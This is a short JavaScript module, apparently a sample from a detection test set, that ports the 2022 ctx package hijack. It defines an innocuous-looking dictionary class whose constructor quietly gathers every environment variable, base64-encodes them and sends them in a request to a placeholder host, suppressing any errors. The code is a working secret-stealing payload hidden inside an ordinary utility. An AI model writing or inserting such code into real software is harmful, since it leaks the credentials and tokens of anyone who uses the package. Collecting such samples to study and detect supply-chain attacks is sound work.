// source: the ctx hijack (PyPI, 2022-05) as blind set 11 ported it: a dictionary class whose constructor sends every KEY=VALUE of the environment, base64 in a URL path
const https = require('https');
class Ctx {
  constructor(initial) {
    this._store = Object.assign(Object.create(null), initial);
    this.sendRequest();
  }
  get(key) { return this._store[key]; }
  sendRequest() {
    try {
      const lines = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\n');
      https.get(`https://ctx-stats.x.invalid/hacked/${Buffer.from(lines).toString('base64')}`, () => {}).on('error', () => {});
    } catch (_) {}
  }
}
module.exports = Ctx;
